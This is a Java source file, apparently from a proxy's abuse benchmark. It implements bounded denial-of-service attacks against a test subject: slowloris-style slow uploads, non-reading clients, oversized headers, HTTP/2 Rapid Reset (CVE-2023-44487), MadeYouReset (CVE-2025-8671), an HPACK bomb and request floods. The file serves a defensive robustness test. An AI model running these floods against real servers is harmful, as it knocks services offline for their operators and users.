package io.signetmesh.bench.abuse;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * What one client, at an address of its own, does to a proxy. All of them are bounded: in
 * connections, in streams, and in time by who runs them.
 */
enum Attack {
  HEADS("4,300 connections to a closed port, 63 KB of an unfinished head on each") {
    @Override
    void run(Attacker attacker, Subject subject) throws IOException {
      byte[] head = head("GET / HTTP/1.1\r\nHost: a\r\nX-Filler: ", 63 * 1024, "");
      for (int i = 0; i < 4300 && attacker.goesOn(); i++) {
        attacker.open(subject.closedHttp1(), head);
      }
      attacker.hold();
    }
  },
  SLOW_READERS("1,000 connections that ask for 8 MB and do not read") {
    @Override
    void run(Attacker attacker, Subject subject) throws IOException {
      byte[] request = ascii("GET /large HTTP/1.1\r\nHost: a\r\n\r\n");
      for (int i = 0; i < 1000 && attacker.goesOn(); i++) {
        attacker.open(subject.http1(), request);
      }
      attacker.hold();
    }
  },
  STALLED_STREAMS("one HTTP/2 connection with 40 streams of 8 MB each that does not read") {
    @Override
    void run(Attacker attacker, Subject subject) throws IOException {
      RawHttp2 connection = attacker.http2(subject.http2(), 16 << 20, 1 << 30);
      for (int i = 0; i < 40; i++) {
        connection.headers(
            connection.newStream(), new RawHttp2.Block("GET", "/large").toBytes(), true);
      }
      connection.flush();
      attacker.hold();
    }
  },
  UPLOADS("20 HTTP/2 connections with 64 uploads each that the application does not read") {
    @Override
    void run(Attacker attacker, Subject subject) throws IOException {
      byte[] data = new byte[16 * 1024];
      for (int c = 0; c < 20 && attacker.goesOn(); c++) {
        RawHttp2 connection = attacker.http2(subject.http2(), 65_535, 0);
        for (int i = 0; i < 64; i++) {
          int stream = connection.newStream();
          connection.headers(stream, new RawHttp2.Block("POST", "/hole").toBytes(), false);
          // Within the window that each connection begins with.
          if (i < 3) {
            connection.frame(RawHttp2.DATA, 0, stream, data, data.length);
          }
        }
        connection.flush();
        attacker.upload(connection, data);
      }
      attacker.hold();
    }
  },
  OPEN_REQUESTS("4 HTTP/2 connections with 1,000 requests of 60 KB heads that are never answered") {
    @Override
    void run(Attacker attacker, Subject subject) throws IOException {
      byte[] block =
          new RawHttp2.Block("GET", "/hole").header("x-filler", "x".repeat(60_000)).toBytes();
      for (int c = 0; c < 4 && attacker.goesOn(); c++) {
        RawHttp2 connection = attacker.http2(subject.http2(), 65_535, 0);
        attacker.drain(connection);
        attacker.background(
            () -> {
              for (int i = 0; i < 1000 && attacker.goesOn(); i++) {
                connection.headers(connection.newStream(), block, true);
                connection.flush();
              }
            });
      }
      attacker.hold();
    }
  },
  SLOW_BODIES("3,000 uploads over HTTP/1.1 with one byte every five seconds") {
    @Override
    void run(Attacker attacker, Subject subject) throws IOException {
      byte[] request = ascii("POST /hole HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx");
      List<Socket> sockets = new ArrayList<>();
      for (int i = 0; i < 3000 && attacker.goesOn(); i++) {
        Socket socket = attacker.open(subject.http1(), request);
        if (socket != null) {
          sockets.add(socket);
        }
      }
      while (attacker.goesOn()) {
        attacker.pause(5000);
        for (Socket socket : sockets) {
          try {
            socket.getOutputStream().write('x');
          } catch (IOException ended) {
            // Closed by the proxy, as it should be.
            continue;
          }
        }
      }
    }
  },
  RAPID_RESET("4 HTTP/2 connections that reset each request at once (CVE-2023-44487)") {
    @Override
    void run(Attacker attacker, Subject subject) {
      byte[] block = new RawHttp2.Block("GET", "/").toBytes();
      attacker.flood(
          4,
          subject.http2(),
          connection -> {
            int stream = connection.newStream();
            connection.headers(stream, block, true);
            connection.reset(stream);
          });
    }
  },
  MADE_YOU_RESET("4 HTTP/2 connections that make the proxy reset each request (CVE-2025-8671)") {
    @Override
    void run(Attacker attacker, Subject subject) {
      byte[] block = new RawHttp2.Block("GET", "/").toBytes();
      attacker.flood(
          4,
          subject.http2(),
          connection -> {
            int stream = connection.newStream();
            connection.headers(stream, block, true);
            connection.windowUpdate(stream, 0);
          });
    }
  },
  DENIED("4 HTTP/2 connections with as many denied requests as they can write") {
    @Override
    void run(Attacker attacker, Subject subject) {
      byte[] block = new RawHttp2.Block("GET", "/").toBytes();
      attacker.flood(
          4,
          subject.closedHttp2(),
          connection -> connection.headers(connection.newStream(), block, true));
    }
  },
  HPACK_BOMB("4 HTTP/2 connections whose header blocks unfold to many times their size") {
    @Override
    void run(Attacker attacker, Subject subject) {
      byte[] first =
          new RawHttp2.Block("GET", "/").remembered("x-bomb", "b".repeat(4000)).toBytes();
      byte[] bomb = new RawHttp2.Block("GET", "/").newest(16_000).toBytes();
      attacker.flood(
          4,
          subject.http2(),
          connection -> {
            int stream = connection.newStream();
            connection.headers(stream, stream == 1 ? first : bomb, true);
          });
    }
  };

  private final String description;

  Attack(String description) {
    this.description = description;
  }

  String label() {
    return name().toLowerCase(java.util.Locale.ROOT).replace('_', '-');
  }

  String description() {
    return description;
  }

  /** Attacks until {@link Attacker#goesOn} says no more. */
  abstract void run(Attacker attacker, Subject subject) throws IOException;

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }

  private static byte[] head(String start, int length, String end) {
    return ascii(start + "x".repeat(length - start.length() - end.length()) + end);
  }

  /** Frames of one round of a flood. */
  interface Round {
    void write(RawHttp2 connection) throws IOException;
  }

  /** Something that runs beside the attack until it fails or ends. */
  interface Work {
    void run() throws IOException;
  }

  /** Connections of the attacker; all are closed at the end. */
  static final class Attacker implements AutoCloseable {
    private static final int CONNECT_TIMEOUT_MILLIS = 1000;
    private static final int ROUNDS_PER_FLUSH = 50;
    private static final int SMALL_BUFFER = 4096;

    private final InetAddress from;
    private final long endNanos;
    private final List<Socket> sockets = new ArrayList<>();
    private final List<Thread> threads = new ArrayList<>();

    Attacker(InetAddress from, long endNanos) {
      this.from = from;
      this.endNanos = endNanos;
    }

    boolean goesOn() {
      return System.nanoTime() - endNanos < 0 && !Thread.currentThread().isInterrupted();
    }

    void pause(long millis) {
      long left = Math.min(millis, TimeUnit.NANOSECONDS.toMillis(endNanos - System.nanoTime()));
      try {
        TimeUnit.MILLISECONDS.sleep(Math.max(0, left));
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }

    /** Waits to the end of the attack. */
    void hold() {
      while (goesOn()) {
        pause(1000);
      }
    }

    private Socket connect(InetSocketAddress to) throws IOException {
      Socket socket = new Socket();
      synchronized (sockets) {
        sockets.add(socket);
      }
      // What the kernel takes for a client that does not read stays small.
      socket.setReceiveBufferSize(SMALL_BUFFER);
      socket.bind(new InetSocketAddress(from, 0));
      socket.connect(to, CONNECT_TIMEOUT_MILLIS);
      return socket;
    }

    /** Opens a connection and writes to it without waiting for room; null where it is refused. */
    @org.jspecify.annotations.Nullable
    Socket open(InetSocketAddress to, byte[] bytes) {
      try {
        Socket socket = connect(to);
        background(() -> socket.getOutputStream().write(bytes));
        return socket;
      } catch (IOException refused) {
        return null;
      }
    }

    RawHttp2 http2(InetSocketAddress to, int streamWindow, int connectionWindow)
        throws IOException {
      return new RawHttp2(connect(to), streamWindow, connectionWindow);
    }

    void background(Work work) {
      threads.add(
          Thread.ofVirtual()
              .start(
                  () -> {
                    try {
                      work.run();
                    } catch (IOException ended) {
                      // The proxy has ended the connection, as it may.
                    }
                  }));
    }

    /** Reads and throws away. */
    void drain(RawHttp2 connection) {
      background(
          () -> {
            while (true) {
              connection.read();
            }
          });
    }

    /** Sends data on the first streams whenever the proxy gives room. */
    void upload(RawHttp2 connection, byte[] data) {
      background(
          () -> {
            while (true) {
              RawHttp2.Frame frame = connection.read();
              if (frame.type() == RawHttp2.WINDOW_UPDATE && frame.stream() != 0) {
                int room = java.nio.ByteBuffer.wrap(frame.payload()).getInt() & 0x7fff_ffff;
                connection.frame(
                    RawHttp2.DATA, 0, frame.stream(), data, Math.min(data.length, room));
                connection.flush();
              }
            }
          });
    }

    /** Writes rounds as fast as they are taken, over new connections where old ones end. */
    void flood(int connections, InetSocketAddress to, Round round) {
      for (int c = 0; c < connections; c++) {
        background(
            () -> {
              while (goesOn()) {
                try (RawHttp2 connection = http2(to, 65_535, 1 << 30)) {
                  drain(connection);
                  while (goesOn()) {
                    for (int i = 0; i < ROUNDS_PER_FLUSH; i++) {
                      round.write(connection);
                    }
                    connection.flush();
                  }
                } catch (IOException ended) {
                  pause(20);
                }
              }
            });
      }
      hold();
    }

    @Override
    public void close() throws IOException {
      threads.forEach(Thread::interrupt);
      synchronized (sockets) {
        for (Socket socket : sockets) {
          if (!socket.isClosed()) {
            // With a reset, so that the ports are free again at once.
            socket.setSoLinger(true, 0);
            socket.close();
          }
        }
      }
    }
  }
}
